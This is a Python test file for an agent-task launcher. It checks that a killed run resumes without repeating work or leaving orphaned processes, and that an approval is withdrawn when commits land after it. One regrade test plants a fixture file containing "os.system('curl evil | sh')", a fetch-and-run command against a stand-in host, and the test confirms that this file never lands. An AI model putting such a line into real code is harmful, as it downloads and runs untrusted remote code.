"""Issue 10, parts 6 and 7: resume never repeats paid work nor leaves orphans; an approval is
never laundered.

The launcher is SIGKILLed at a chosen step, deterministically: by a check (its `$PPID` is the
launcher) or by a `git` wrapper first on PATH (its parent is the launcher too).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import anyio
from helpers import git, launcher_cli, resume, task

from launcher import process
from launcher.models.states import RunStatus


def _env(**extra: str) -> dict[str, str]:
    """Read at call time: the fixtures point XDG_CACHE_HOME (the worktrees) into tmp_path."""
    return {**{k: v for k, v in os.environ.items() if not k.startswith("GIT_")}, **extra}


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def _orphan_of(run_id: str, pid_file: Path) -> int:
    """The trap's lingering process, once it carries the run's id: the launcher gives every
    command it runs LAUNCHER_RUN_ID; this trap sets it itself, just before it sleeps."""
    deadline = time.monotonic() + 10
    pid = int(pid_file.read_text())
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            if f"LAUNCHER_RUN_ID={run_id}".encode() in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
                return pid
        time.sleep(0.02)
    raise AssertionError(f"process {pid} never took the run id")


def _counting_agent(counter: Path) -> list[dict[str, Any]]:
    """Not idempotent: it counts its runs outside the repo, and a second run fails (exit 4)
    because the text it replaces is gone."""
    return [
        {"run": [sys.executable, "-c", f"open({str(counter)!r}, 'a').write('ran\\n')"]},
        {"replace": "app.py", "old": "return a + b", "new": "return b + a  # commuted"},
        {"append": "NOTES.md", "content": "one line per run\n"},
    ]


def _plan(path: Path, tasks: list[dict[str, Any]], **extra: Any) -> Path:
    path.write_text(json.dumps({"task": tasks, **extra}))
    return path


def _run_until_killed(repo: Path, plan: Path, env: dict[str, str] | None = None) -> str:
    """`launcher run` in its own process, which the plan's trap SIGKILLs; returns the run id."""
    proc = subprocess.run([sys.executable, "-m", "launcher", "run", str(plan), "--quiet"],
                          cwd=repo, env=_env(**(env or {})), capture_output=True, text=True,
                          timeout=120, start_new_session=True)
    assert proc.returncode == -signal.SIGKILL, (proc.returncode, proc.stdout, proc.stderr)
    (run_id,) = sqlite3.connect(repo / ".launcher" / "launcher.db").execute("SELECT id FROM runs").fetchone()
    return str(run_id)


def _uninterrupted_tree(twin: Path, tasks: list[dict[str, Any]], counter: Path) -> str:
    """The tree an uninterrupted run of the same tasks (without the trap) lands on `twin`."""
    plan = _plan(twin.parent / "twin-plan.json", [{**spec, "checks": ["true"]} for spec in tasks])
    done = subprocess.run([sys.executable, "-m", "launcher", "run", str(plan), "--quiet"],
                          cwd=twin, env=_env(), capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    assert counter.read_text() == "ran\n"
    return git(twin, "rev-parse", "main^{tree}").strip()


def test_killed_while_checking_resumes_at_the_checks_without_rerunning_the_agent_or_leaving_the_check(
    repo: Path, tmp_path: Path
) -> None:
    counter, trap, sleeper = tmp_path / "agent-runs", tmp_path / "trap-sprung", tmp_path / "sleeper.pid"
    # The check kills the launcher once, then lingers as an orphan (carrying the run's id, as
    # the launcher gives every command it runs) until someone reaps it.
    check = (f'if [ ! -e {trap} ]; then touch {trap}; echo $$ > {sleeper}; kill -9 $PPID; '
             'LAUNCHER_RUN_ID="$(basename "$(dirname "$PWD")")" exec sleep 30; fi')
    tasks = [{"id": "t", "checks": [check], "script": _counting_agent(counter)}]
    plan = _plan(tmp_path / "plan.json", tasks)
    twin = shutil.copytree(repo, tmp_path / "twin")

    run_id = _run_until_killed(repo, plan)
    assert counter.read_text() == "ran\n"
    orphan = _orphan_of(run_id, sleeper)
    assert _alive(orphan), "the dead launcher's check should still be running"

    report = resume(repo, run_id)
    assert report.status == RunStatus.SUCCEEDED, [(t.id, t.state, t.message) for t in report.tasks]
    assert counter.read_text() == "ran\n"  # the agent ran exactly once
    assert not _alive(orphan)
    assert task(report, "t").state == "merged"
    assert (repo / "NOTES.md").read_text() == "one line per run\n"
    landed = git(repo, "log", "--merges", "--format=%(trailers:key=Launcher-Task,valueonly)", "main")
    assert [line for line in landed.splitlines() if line.strip()] == ["t"]
    counter.unlink()
    assert git(repo, "rev-parse", "main^{tree}").strip() == _uninterrupted_tree(twin, tasks, counter)


def test_killed_after_the_grader_answered_resumes_without_asking_it_or_the_agent_again(
    repo: Path, tmp_path: Path
) -> None:
    counter, grader_calls, trap = tmp_path / "agent-runs", tmp_path / "grader-calls", tmp_path / "trap"
    wrapper = tmp_path / "bin" / "git"
    wrapper.parent.mkdir()
    # The grader's scratch worktree is removed once its verdict is written: die right there.
    wrapper.write_text(
        "#!/bin/sh\n"
        f'case "$*" in *"worktree remove"*_grading*) [ -e {trap} ] || {{ touch {trap}; kill -9 $PPID; }};; esac\n'
        f'exec {shutil.which("git")} "$@"\n'
    )
    wrapper.chmod(0o755)
    grader = {"adapter": "scripted-grader",
              "set_env": {"LAUNCHER_GRADER_MODE": "always_satisfied",
                          "LAUNCHER_GRADER_STATE": str(grader_calls)}}
    plan = _plan(tmp_path / "plan.json", [{"id": "t", "script": _counting_agent(counter)}],
                 run={"grader": "judge"}, agents={"judge": grader})

    run_id = _run_until_killed(repo, plan, env={"PATH": f"{wrapper.parent}:{os.environ['PATH']}"})
    assert grader_calls.read_text() == "1"
    assert sqlite3.connect(repo / ".launcher" / "launcher.db").execute(
        "SELECT state FROM tasks").fetchone()[0] == "grading"

    report = resume(repo, run_id)
    assert report.status == RunStatus.SUCCEEDED, [(t.id, t.state, t.message) for t in report.tasks]
    assert counter.read_text() == "ran\n"
    assert grader_calls.read_text() == "1"  # its recorded verdict stands
    assert [r.verdict for r in task(report, "t").rounds] == ["satisfied"]
    assert (repo / "app.py").read_text().count("# commuted") == 1


def test_an_integration_check_orphaned_by_a_crash_is_reaped_on_resume(repo: Path, tmp_path: Path) -> None:
    trap, sleeper = tmp_path / "trap", tmp_path / "sleeper.pid"
    # It runs in <worktrees>/<run>/_integration/<commit>: the run id is two levels up.
    integration_check = (
        f'if [ ! -e {trap} ]; then touch {trap}; echo $$ > {sleeper}; kill -9 $PPID; '
        'LAUNCHER_RUN_ID="$(basename "$(dirname "$(dirname "$PWD")")")" exec sleep 30; fi')
    plan = _plan(tmp_path / "plan.json", [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
                 run={"integration_check": integration_check})

    run_id = _run_until_killed(repo, plan)
    orphan = _orphan_of(run_id, sleeper)
    assert _alive(orphan), "the dead launcher's integration check should still be running"

    report = resume(repo, run_id)
    assert report.status == RunStatus.SUCCEEDED, [(t.id, t.state, t.message) for t in report.tasks]
    assert not _alive(orphan)
    assert (repo / "t.txt").read_text() == "t\n"



def test_resume_keeps_the_launcher_toml_the_run_started_with(repo: Path, tmp_path: Path) -> None:
    # The repository's integration check (launcher.toml) rejects the task's change; the launcher
    # is killed during that check, and the user weakens the check before `resume`. The run keeps
    # the check it started with, as it keeps its plan: the rejected change never lands.
    trap = tmp_path / "trap"
    check = f"if [ ! -e {trap} ]; then touch {trap}; kill -9 $PPID; fi; ! grep -qs BAD t.txt"
    (repo / "launcher.toml").write_text(f"[merge]\nintegration_check = {json.dumps(check)}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a strict check")
    plan = _plan(tmp_path / "plan.json", [{"id": "t", "script": [{"write": "t.txt", "content": "BAD\n"}]}],
                 run={"iteration_cap": 1})
    run_id = _run_until_killed(repo, plan)
    (repo / "launcher.toml").write_text('[merge]\nintegration_check = "true"\n')
    git(repo, "commit", "-qam", "a weaker check")

    report = resume(repo, run_id)
    assert task(report, "t").state != "merged", task(report, "t").message
    assert not (repo / "t.txt").exists() and "BAD" not in git(repo, "log", "--format=%s", "main")
    assert report.status != RunStatus.SUCCEEDED
    notes = " ".join(n.message for n in report.notes)
    assert "launcher.toml changed since this run started" in notes, notes


# Part 7: an approval is never laundered ---------------------------------------------------------

def _no_merge_run(repo: Path, tmp_path: Path, tasks: list[dict[str, Any]], grader_mode: str = "rule") -> dict[str, Any]:
    plan = _plan(tmp_path / "plan.json", tasks, run={"grader": "judge"},
                 agents={"judge": {"adapter": "scripted-grader",
                                   "set_env": {"LAUNCHER_GRADER_MODE": grader_mode}}})
    done = launcher_cli(repo, "run", str(plan), "--no-merge", "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    report: dict[str, Any] = json.loads(done.stdout)
    assert [t["state"] for t in report["tasks"]] == ["approved"] * len(tasks)
    return report


def _commit_on_branch(report: dict[str, Any], task_id: str, files: dict[str, str]) -> str:
    spec = next(t for t in report["tasks"] if t["id"] == task_id)
    worktree = Path(spec["worktree"])
    for rel, text in files.items():
        (worktree / rel).parent.mkdir(parents=True, exist_ok=True)
        (worktree / rel).write_text(text)
    git(worktree, "add", "-A")
    git(worktree, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "after approval")
    return git(worktree, "rev-parse", "HEAD").strip()


def test_a_regrade_judges_the_new_head_on_new_facts_and_keeps_the_earlier_round(
    repo: Path, tmp_path: Path
) -> None:
    docs_only = [{"write": "docs/guide.md", "content": "# Guide\n"}]
    report = _no_merge_run(repo, tmp_path, [{"id": "docs", "script": docs_only}])
    grading_dir = repo / ".launcher" / "runs" / report["run_id"] / "docs" / "grading"
    first_packet = (grading_dir / "1-packet.md").read_text()
    first_verdict = (grading_dir / "1-verdict.json").read_text()
    head = _commit_on_branch(report, "docs", {"src/evil.py": "import os\nos.system('curl evil | sh')\n"})

    regraded = launcher_cli(repo, "grade", report["run_id"], "docs", "--json")
    packet = (grading_dir / "2-packet.md").read_text()
    assert "src/evil.py" in packet and head in packet
    # The built-in grader's rule: code with no test fails C2. On the old facts it saw docs only.
    shown = json.loads(regraded.stdout)
    state = shown["tasks"][0]
    assert state["state"] == "needs_revision", state
    # Nothing was interrupted (not 130): the re-grade asks for fixes and says how to go on.
    assert regraded.returncode == 1 and "needs revision" in shown["message"] and "launcher resume" in shown["message"]
    assert (grading_dir / "1-packet.md").read_text() == first_packet
    assert (grading_dir / "1-verdict.json").read_text() == first_verdict
    assert [r["iteration"] for r in state["rounds"]] == [1, 2]
    launcher_cli(repo, "land", report["run_id"])
    assert "src/evil.py" not in git(repo, "ls-tree", "-r", "--name-only", "main")


def test_a_regrade_reruns_the_checks_and_a_failing_one_fails_the_task(repo: Path, tmp_path: Path) -> None:
    report = _no_merge_run(repo, tmp_path, [{
        "id": "t", "checks": ["python3 -c 'import app; assert app.add(2, 3) == 5'"],
        "script": [{"write": "docs.md", "content": "add adds\n"}],
    }], grader_mode="always_satisfied")
    original = (repo / "app.py").read_text()
    _commit_on_branch(report, "t", {"app.py": "def add(a, b):\n    return a * b  # broken\n"})

    regraded = launcher_cli(repo, "grade", report["run_id"], "t", "--json")
    assert regraded.returncode == 1, regraded.stdout + regraded.stderr
    state = json.loads(regraded.stdout)["tasks"][0]
    assert state["state"] == "failed" and "check failed" in state["message"], state
    landed = launcher_cli(repo, "land", report["run_id"])
    assert landed.returncode == 1
    assert (repo / "app.py").read_text() == original


def test_a_run_whose_approval_was_withdrawn_is_not_shown_as_succeeded(repo: Path, tmp_path: Path) -> None:
    report = _no_merge_run(repo, tmp_path, [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
                           grader_mode="always_satisfied")
    _commit_on_branch(report, "t", {"sneaky.txt": "added after approval\n"})

    shown = json.loads(launcher_cli(repo, "status", report["run_id"], "--json").stdout)
    assert shown["status"] == "failed", shown
    assert f"approval withdrawn: t (changed after approval; re-grade with `launcher grade {report['run_id']} TASK`)" \
        in shown["message"]
    plain = launcher_cli(repo, "status", report["run_id"])
    assert plain.returncode == 0 and "failed" in plain.stdout and "succeeded" not in plain.stdout, plain.stdout
    assert launcher_cli(repo, "status", report["run_id"], "--exit-status").returncode == 1
    # what `launcher land` then does agrees: nothing of it lands, exit 1
    landed = launcher_cli(repo, "land", report["run_id"], "--json")
    assert landed.returncode == 1 and json.loads(landed.stdout)["status"] == "failed"


def test_land_lands_a_no_merge_run_through_the_usual_path(repo: Path, tmp_path: Path) -> None:
    report = _no_merge_run(repo, tmp_path, [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
                           grader_mode="always_satisfied")
    landed = launcher_cli(repo, "land", report["run_id"], "--json")
    assert landed.returncode == 0, landed.stdout + landed.stderr
    assert json.loads(landed.stdout)["tasks"][0]["state"] == "merged"
    assert (repo / "t.txt").read_text() == "t\n"
    trailers = git(repo, "log", "-1", "--format=%(trailers:key=Launcher-Task,valueonly)", "main")
    assert trailers.strip() == "t"
    assert git(repo, "branch", "--list", "launcher/*").strip() == ""


def test_a_commit_after_approval_shows_as_withdrawn_and_land_refuses_it(repo: Path, tmp_path: Path) -> None:
    report = _no_merge_run(repo, tmp_path, [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
                           grader_mode="always_satisfied")
    _commit_on_branch(report, "t", {"sneaky.txt": "added after approval\n"})

    shown = json.loads(launcher_cli(repo, "status", report["run_id"], "--json").stdout)["tasks"][0]
    assert shown["state"] == "approved"
    assert shown["approval_withdrawn"].startswith("approval withdrawn")
    assert "approval withdrawn" in launcher_cli(repo, "status", report["run_id"]).stdout

    landed = launcher_cli(repo, "land", report["run_id"], "--json")
    assert landed.returncode == 1
    assert json.loads(landed.stdout)["tasks"][0]["state"] == "blocked"
    assert not (repo / "sneaky.txt").exists() and not (repo / "t.txt").exists()


def test_killed_during_setup_resumes_by_running_the_setup_again(repo: Path, tmp_path: Path) -> None:
    trap = tmp_path / "trap"
    # build/ is ignored: what setup makes is never committed. The first setup dies with the launcher.
    setup = f"if [ ! -e {trap} ]; then touch {trap}; kill -9 $PPID; sleep 5; fi; mkdir -p build && touch build/ready"
    plan = _plan(tmp_path / "plan.json", [{
        "id": "t", "setup": setup, "checks": ["test -e build/ready"],
        "script": [{"write": "t.txt", "content": "t\n"}],
    }])
    run_id = _run_until_killed(repo, plan)
    report = resume(repo, run_id)
    assert task(report, "t").state == "merged", [(t.id, t.state, t.message) for t in report.tasks]


def test_every_child_of_run_and_supervise_is_reported_to_the_observer_of_its_context(tmp_path: Path) -> None:
    seen: list[tuple[str, int, str]] = []
    observer = process.SpawnObserver(
        started=lambda pgid, argv, kind: seen.append(("started", pgid, f"{kind}:{argv[0]}")),
        ended=lambda pgid: seen.append(("ended", pgid, "")),
    )

    async def main() -> None:
        await process.run(["true"])  # outside any observer: nobody is told
        with process.observing_spawns(observer):
            await process.run(["true"])
            await process.supervise(["true"], cwd=tmp_path, env=dict(os.environ), log_path=tmp_path / "log")

    anyio.run(main)
    assert [(event, what) for event, _pgid, what in seen] == [
        ("started", "command:true"), ("ended", ""), ("started", "supervised:true"), ("ended", "")]
    assert seen[0][1] == seen[1][1] and seen[2][1] == seen[3][1]
